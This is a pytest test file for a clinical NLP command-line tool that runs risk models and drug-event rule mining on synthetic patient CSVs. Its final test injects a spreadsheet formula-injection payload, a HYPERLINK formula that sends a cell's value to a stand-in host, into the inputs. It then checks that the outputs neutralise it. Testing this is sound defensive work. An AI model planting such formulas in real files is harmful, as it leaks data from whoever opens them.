"""Files in, tables and a report out: risk and mining, through the command line."""

import csv
import random

import pandas as pd
import pytest

from clinnlp.cli import main
from clinnlp.core.errors import DataError
from clinnlp.io.tables.parts import PartWriter
from clinnlp.mine.rule_mining import mine_rules
from clinnlp.study.mine_flow import mine_flow
from clinnlp.study.risk_tables import read_outcome_table
from clinnlp.study.settings import MineSettings


@pytest.fixture
def cohort(tmp_path):
    """Write 240 patients whose outcome follows one drug, with two rare events after index."""
    rng = random.Random(3)
    events, outcomes, people = [], [], []
    for i in range(240):
        drug, sick = rng.random() < 0.5, rng.random() < 0.5
        bad = rng.random() < (0.6 if drug else 0.15)
        people.append([f"p{i}", "1950-01-01", "f" if sick else "m"])
        outcomes.append([f"p{i}", "2020-01-01", int(bad)])
        for code, there in (("warfarin", drug), ("asthma", sick)):
            if there:
                kind = "drug" if code == "warfarin" else "condition"
                events.append([f"p{i}", f"e{i}", "2019-06-01", "2019-06-02", code, kind])
        if bad:
            events.append([f"p{i}", f"e{i}", "2020-02-01", "2020-02-01", "bleed", "outcome"])
    tables = {
        "events": (["patient", "encounter", "start", "known", "code", "kind"], events),
        "outcome": (["patient", "index_time", "outcome"], outcomes),
        "patients": (["patient", "birth_date", "sex"], people),
    }
    for name, (head, rows) in tables.items():
        with open(tmp_path / f"{name}.csv", "w", newline="") as handle:
            csv.writer(handle).writerows([head, *rows])
    return tmp_path


def test_risk_writes_scores_predictions_and_a_report(cohort, capsys):
    code = main(["risk", str(cohort / "outcome.csv"), "--events", str(cohort / "events.csv"),
                 "--patients", str(cohort / "patients.csv"), "--out", str(cohort / "risk"),
                 "--n-boot", "50"])  # fmt: skip
    said = capsys.readouterr().out
    assert code == 0
    assert "naive_bayes: AUROC 0." in said
    rows = list(csv.DictReader((cohort / "risk" / "predictions.csv").read_text().splitlines()))
    assert len(rows) == 240
    assert {float(r["p_svm"]) <= 1 for r in rows} == {True}
    html = (cohort / "risk" / "report.html").read_text()
    assert "Left out, and why" in html  # the events after index
    assert "http://" not in html.replace("http://www.w3.org", "")


def test_mine_writes_rules_and_a_report(cohort, capsys):
    code = main(["mine", str(cohort / "events.csv"), "--out", str(cohort / "rules"),
                 "--unit", "encounter", "--min-count", "3"])  # fmt: skip
    assert code == 0
    assert "Rules(" in capsys.readouterr().out
    rows = list(csv.DictReader((cohort / "rules" / "rules.csv").read_text().splitlines()))
    pair = next(r for r in rows if {r["antecedents"], r["consequents"]} == {"warfarin", "bleed"})
    assert int(pair["n_both"]) > 30
    assert float(pair["q_bh"]) < 0.05
    assert (cohort / "rules" / "report.md").read_text().startswith("# Drug rules")


@pytest.mark.parametrize(
    ("broken", "message"),
    [
        ("patient,index_time,outcome\np1,2020-01-01,7\n", "outcome.csv:2"),
        ("patient,outcome\np1,1\n", "index_time"),
    ],
)
def test_a_wrong_outcome_file_is_refused(cohort, capsys, broken, message):
    (cohort / "outcome.csv").write_text(broken)
    code = main(["risk", str(cohort / "outcome.csv"), "--events", str(cohort / "events.csv"),
                 "--out", str(cohort / "risk")])  # fmt: skip
    assert code == 2
    assert message in capsys.readouterr().err
    assert not (cohort / "risk").exists()


def test_an_outcome_may_be_tsv_or_parquet_and_its_lines_are_named(cohort):
    frame = pd.read_csv(cohort / "outcome.csv", parse_dates=["index_time"])
    frame.to_parquet(cohort / "outcome.parquet")
    frame.to_csv(cohort / "outcome.tsv.gz", sep="\t", index=False)
    wanted = read_outcome_table(cohort / "outcome.csv").outcome
    for name in ("outcome.parquet", "outcome.tsv.gz"):
        made = read_outcome_table(cohort / name).outcome
        assert made.patients.tolist() == wanted.patients.tolist()
        assert made.index.tolist() == wanted.index.tolist()
        assert made.values.tolist() == wanted.values.tolist()
    bad = cohort / "bad.csv"
    bad.write_text("patient,index_time,outcome\n\np1,2020-01-01,1\np2,01/02/2020,1\n")
    with pytest.raises(DataError, match=r"bad.csv:4: index must be a time in ISO 8601"):
        read_outcome_table(bad)


@pytest.mark.parametrize(
    ("flags", "part"),
    [
        (["--seed", "-1"], "seed must be at least 0, got -1"),
        (["--look-back-days", "nan"], "look_back_days must be above 0, got nan"),
        (["--n-folds", "1"], "n_folds must be at least 2, got 1"),
    ],
)
def test_risk_settings_out_of_range_are_refused(cohort, capsys, flags, part):
    assert main(["risk", str(cohort / "outcome.csv"), "--events", str(cohort / "events.csv"),
                 "--out", str(cohort / "risk"), *flags]) == 2  # fmt: skip
    assert part in capsys.readouterr().err
    assert not (cohort / "risk").exists()


def test_patients_that_do_not_match_are_told_as_such(cohort, capsys):
    lines = (cohort / "outcome.csv").read_text().replace("\np", "\nq")
    (cohort / "outcome.csv").write_text(lines)
    assert main(["risk", str(cohort / "outcome.csv"), "--events", str(cohort / "events.csv"),
                 "--out", str(cohort / "risk")]) == 2  # fmt: skip
    assert "got none; left out: events_other_patient" in capsys.readouterr().err
    (cohort / "outcome.csv").write_bytes(b"")
    assert main(["risk", str(cohort / "outcome.csv"), "--events", str(cohort / "events.csv"),
                 "--out", str(cohort / "risk")]) == 2  # fmt: skip
    assert "needs both outcomes, got no row" in capsys.readouterr().err


def test_mine_says_what_was_left_out_and_takes_other_kinds(cohort, capsys):
    text = (cohort / "events.csv").read_text().replace(",drug", ",Rx").replace(",outcome", ",ADE")
    (cohort / "events.csv").write_text(text)
    call = ["mine", str(cohort / "events.csv"), "--out", str(cohort / "rules"), "--min-count", "3"]
    assert main(call) == 0
    said = capsys.readouterr().out
    assert "left out: kind" in said
    assert "Signals(" not in said
    assert main([*call, "--drug-kind", "Rx", "--outcome-kind", "ADE"]) == 0
    said = capsys.readouterr().out
    assert "left out: nothing" in said
    assert "Signals(" in said


def test_mine_refuses_what_it_would_ignore(cohort, capsys):
    call = ["mine", str(cohort / "events.csv"), "--out", str(cohort / "rules")]
    assert main([*call, "--label", "Drug"]) == 2
    assert "label and strict choose mentions, got a table of events" in capsys.readouterr().err
    assert main(["mine", str(cohort / "outcome.csv"), "--out", str(cohort / "rules")]) == 2
    assert "got others; columns are 'patient', 'index_time'" in capsys.readouterr().err
    assert main([*call[:-1], str(cohort / "events.csv" / "rules")]) == 1
    assert "events.csv is not a folder" in capsys.readouterr().err
    assert not (cohort / "rules").exists()


def test_mine_reads_a_folder_extracted_from_no_notes_but_not_an_empty_one(tmp_path, capsys):
    with PartWriter(tmp_path / "none"):
        pass
    assert main(["mine", str(tmp_path / "none"), "--out", str(tmp_path / "rules")]) == 0
    (tmp_path / "empty").mkdir()
    assert main(["mine", str(tmp_path / "empty"), "--out", str(tmp_path / "rules")]) == 2
    assert "must hold Parquet parts, got none" in capsys.readouterr().err


def test_mining_gives_back_what_it_wrote_and_the_lines_that_are_printed(cohort, capsys):
    settings = MineSettings(unit="encounter", min_count=3, min_cell=10)
    result = mine_flow(cohort / "events.csv", out=cohort / "a", settings=settings)
    assert capsys.readouterr().out == ""
    assert list(result.signals) == ["drug_events", "signals"]
    assert 0 < len(result.rules) <= len(mine_rules(result.baskets, min_count=3))
    written = pd.read_csv(cohort / "a" / "rules.csv")
    assert written["n_both"].tolist() == result.rules.to_pandas()["n_both"].tolist()
    for name, signals in result.signals.items():
        assert len(pd.read_csv(cohort / "a" / f"{name}.csv")) == len(signals)
    assert main(["mine", str(cohort / "events.csv"), "--out", str(cohort / "a"), "--unit",
                 "encounter", "--min-count", "3", "--min-cell", "10"]) == 0  # fmt: skip
    assert capsys.readouterr().out == "\n".join(result.lines()) + "\n"
    assert result.lines()[:-1] == result.report.findings
    with pytest.raises(AttributeError):
        result.rules = None


def test_help_states_defaults_as_typed(capsys):
    for command, part in (
        ("risk", "(default: naive_bayes random_forest svm)"),
        ("mine", "(default: off)"),
    ):
        with pytest.raises(SystemExit):
            main([command, "--help"])
        said = " ".join(capsys.readouterr().out.split())
        assert part in said
        assert "None" not in said


NAMES = ("events", "outcome", "patients")
LINK = '=hyperlink("http://x.example/?"&a1,"more")'


def text_cells(folder):
    """Return every cell of every CSV in a folder that is no number."""
    cells = []
    for path in folder.rglob("*.csv"):
        with open(path, newline="", encoding="utf-8") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    return [cell for cell in cells if not _is_number(cell)]


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_file_that_a_user_opens_holds_a_formula_from_a_note_or_table(cohort):
    for name in NAMES:
        with open(cohort / f"{name}.csv", newline="") as handle:
            rows = [
                [LINK if cell == "warfarin" else cell for cell in row] for row in csv.reader(handle)
            ]
        at = rows[0].index("patient")
        rows[1:] = [[f"@{c}" if k == at else c for k, c in enumerate(row)] for row in rows[1:]]
        with open(cohort / f"{name}.csv", "w", newline="") as handle:
            csv.writer(handle).writerows(rows)
    events, outcome, people = (str(cohort / f"{name}.csv") for name in NAMES)
    rules, risk, new = (str(cohort / out) for out in ("rules", "risk", "new"))
    given = ["--events", events, "--patients", people]
    assert main(["mine", events, "--out", rules, "--min-count", "3"]) == 0
    assert main(["risk", outcome, *given, "--out", risk, "--models", "naive_bayes",
                 "--keep", "naive_bayes", "--n-boot", "10"]) == 0  # fmt: skip
    assert main(["risk", "apply", f"{risk}/model", outcome, *given, "--out", new]) == 0
    for out, wanted in (("rules", f"'{LINK}"), ("risk", "'@p0"), ("new", "'@p0")):
        cells = text_cells(cohort / out)
        assert wanted in cells
        assert not [cell for cell in cells if cell.lstrip()[:1] in set("=+-@")]
